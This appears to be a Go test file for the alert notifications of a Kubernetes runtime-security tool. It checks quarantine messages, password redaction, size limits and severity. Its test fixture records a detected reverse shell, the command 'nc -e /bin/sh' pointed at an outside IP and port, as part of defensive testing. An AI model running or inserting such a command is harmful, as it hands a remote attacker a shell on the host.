package notify

import (
	"strings"
	"testing"
	"time"
	"unicode/utf8"

	metav1 "k8s.io/apimachinery/pkg/apis/meta/v1"

	"github.com/portcullis-dev/portcullis/runtime/response"
	"github.com/portcullis-dev/portcullis/runtime/v1alpha1"
)

var noon = time.Date(2026, 11, 28, 12, 0, 0, 0, time.UTC)

// shell is a quarantine for a reverse shell.
func shell(change ...func(*v1alpha1.Quarantine)) *v1alpha1.Quarantine {
	admitted := metav1.NewMicroTime(noon)
	q := &v1alpha1.Quarantine{
		ObjectMeta: metav1.ObjectMeta{Name: "q-0123456789abcdef0123", UID: "11111111-2222-3333-4444-555555555555"},
		Spec: v1alpha1.QuarantineSpec{
			Pod:   v1alpha1.PodReference{Namespace: "shop", Name: "web-7d9f-abcde", UID: "aaaaaaaa-2222-3333-4444-555555555555", Node: "node-1"},
			Owner: &v1alpha1.OwnerReference{Group: "apps", Version: "v1", Kind: "Deployment", Name: "web", UID: "bbbbbbbb-2222-3333-4444-555555555555"},
			Mode:  response.ModeEnforce, TTL: metav1.Duration{Duration: 24 * time.Hour},
			Triggers: []v1alpha1.Trigger{{
				Policy: "runtime/reverse-shell", Severity: "critical", Message: "A shell is bound to a socket.", Rule: "Redirect STDOUT/STDIN to Network Connection in Container",
				Priority: response.Critical, Output: "nc -e /bin/sh 203.0.113.7 4444",
			}},
			Actions: []response.Planned{{Ask: response.Ask{Action: response.Snapshot}}, {Ask: response.Ask{Action: response.Isolate}}},
		},
		Status: v1alpha1.QuarantineStatus{Phase: v1alpha1.PhaseContained, Admitted: &admitted, Verdict: "Isolated"},
	}
	for _, c := range change {
		c(q)
	}
	return q
}

func TestAMessageSaysWhatTheQuarantineSays(t *testing.T) {
	m := About(KindContained, shell(), noon, "All actions were taken.")
	d := m.Details()
	if got, want := m.Title(), "Quarantined: pod shop/web-7d9f-abcde: Isolated"; got != want {
		t.Errorf("title: got %q, want %q", got, want)
	}
	if got, want := d.Owner.APIVersion+" "+d.Owner.Kind, "apps/v1 Deployment"; got != want {
		t.Errorf("owner: got %q, want %q", got, want)
	}
	if want := noon.Add(24 * time.Hour); !d.Until.Equal(want) {
		t.Errorf("until: got %v, want %v", d.Until, want)
	}
	if d.Severity != Critical || d.Rule == "" || d.Output == "" || strings.Join(d.Actions, ",") != "snapshot,isolate" {
		t.Errorf("details: got %+v", d)
	}
	if !strings.Contains(d.Next, "portcullis quarantine release q-0123456789abcdef0123 --reason") {
		t.Errorf("next: got %q, want the command that releases", d.Next)
	}
}

func TestCredentialsDoNotReachAMessage(t *testing.T) {
	for name, text := range map[string]string{
		"a password on a command line":                     "mysql -u root --password=hunter2-very-long -h db",
		"a password in an address":                         "curl https://ann:hunter2-very-long@example.org/x",
		"a header":                                         "curl -H 'Authorization: Bearer hunter2-very-long' https://example.org",
		"a name that characters hide which do not show":    "run --pass\u200bword=hunter2-very-long",
		"a name that control characters of terminals hide": "run --pass\x1b\x00word=hunter2-very-long",
		"a value whose end would be cut off":               strings.Repeat("x", maxText-40) + " https://ann:hunter2-very-long-" + strings.Repeat("9", 50) + "@db",
	} {
		t.Run(name, func(t *testing.T) {
			q := shell(func(q *v1alpha1.Quarantine) {
				q.Spec.Triggers[0].Output = text
				q.Status.Residual = []string{text}
				q.Spec.Triggers[0].Rule = text
			})
			written := strings.Join([]string{note(About(KindContained, q, noon, text)), title(About(KindTold, q, noon, text)), dump(t, About(KindContained, q, noon, text))}, "\n")
			if strings.Contains(written, "hunter2") {
				t.Errorf("got %s, want the password replaced", written)
			}
		})
	}
}

func title(m Message) string { return m.Title() }

// dump is all that any receiver could say.
func dump(t *testing.T, m Message) string {
	t.Helper()
	c := &CloudEvents{}
	_, body, err := c.encode(m)
	if err != nil {
		t.Fatal(err)
	}
	return string(body)
}

func TestAMessageIsBounded(t *testing.T) {
	long := strings.Repeat("ü", 1<<20)
	many := make([]string, 10_000)
	for n := range many {
		many[n] = long[:4000]
	}
	m := NewMessage(Details{Kind: KindTold, Time: noon, Reason: long, Rule: long, Output: long, Residual: many, Pod: &Pod{Namespace: long, Name: long}})
	if got := len(dump(t, m)); got > 128<<10 {
		t.Errorf("got %d bytes, want at most 128 KiB", got)
	}
	if last := m.Details().Residual[maxList]; last != "… and 9980 more" {
		t.Errorf("the last item: got %q, want how many more there are", last)
	}
	if got := len(note(m)); got > maxNote || !utf8.ValidString(note(m)) {
		t.Errorf("the note of an Event has %d bytes, want at most %d, of valid UTF-8", got, maxNote)
	}
}

func TestTheIDFollowsFromWhatIsSaid(t *testing.T) {
	same, again := About(KindContained, shell(), noon, "x"), About(KindContained, shell(), noon, "x")
	if same.ID() != again.ID() || len(same.ID()) != 32 {
		t.Errorf("got %q and %q, want the same 32 digits", same.ID(), again.ID())
	}
	for name, other := range map[string]Message{
		"another kind":   About(KindContaining, shell(), noon, "x"),
		"another time":   About(KindContained, shell(), noon.Add(time.Second), "x"),
		"another reason": About(KindContained, shell(), noon, "y"),
		"another pod":    About(KindContained, shell(func(q *v1alpha1.Quarantine) { q.Spec.Pod.UID = "z" }), noon, "x"),
	} {
		if other.ID() == same.ID() {
			t.Errorf("%s: got the same ID, want another one", name)
		}
	}
}

func TestSeverityIsThatOfTheGravestTrigger(t *testing.T) {
	for name, test := range map[string]struct {
		severities []string
		want       Severity
	}{
		"one":                               {[]string{"medium"}, Medium},
		"the gravest of several":            {[]string{"low", "high", "medium"}, High},
		"what is no severity counts as one": {[]string{"low", "apocalyptic"}, Critical},
		"none":                              {nil, Critical},
	} {
		q := shell(func(q *v1alpha1.Quarantine) {
			q.Spec.Triggers = nil
			for _, s := range test.severities {
				q.Spec.Triggers = append(q.Spec.Triggers, v1alpha1.Trigger{Policy: "p", Severity: s})
			}
		})
		if got := About(KindContained, q, noon, "").Details().Severity; got != test.want {
			t.Errorf("%s: got %s, want %s", name, got, test.want)
		}
	}
}

func TestTheOpenBreakerPages(t *testing.T) {
	if !NewMessage(Details{Kind: KindBreakerOpened, Severity: Low}).Page() {
		t.Error("an open circuit breaker does not page")
	}
	if NewMessage(Details{Kind: KindContained, Severity: Critical}).Page() {
		t.Error("a pod that is contained pages: nobody has to do anything now")
	}
	if !NewMessage(Details{Kind: KindStepFailed, Severity: Critical}).Page() || NewMessage(Details{Kind: KindStepFailed, Severity: Low}).Page() {
		t.Error("a step that failed pages for what is critical, and for nothing else")
	}
}

func TestEveryKindHasAWord(t *testing.T) {
	for _, kind := range Kinds() {
		if kind.title() == string(kind) {
			t.Errorf("%s has no title", kind)
		}
		plan := planAlerts(&Details{Kind: kind})
		if len(plan.fire)+len(plan.resolve) == 0 {
			t.Errorf("%s does nothing to alerts", kind)
		}
	}
}
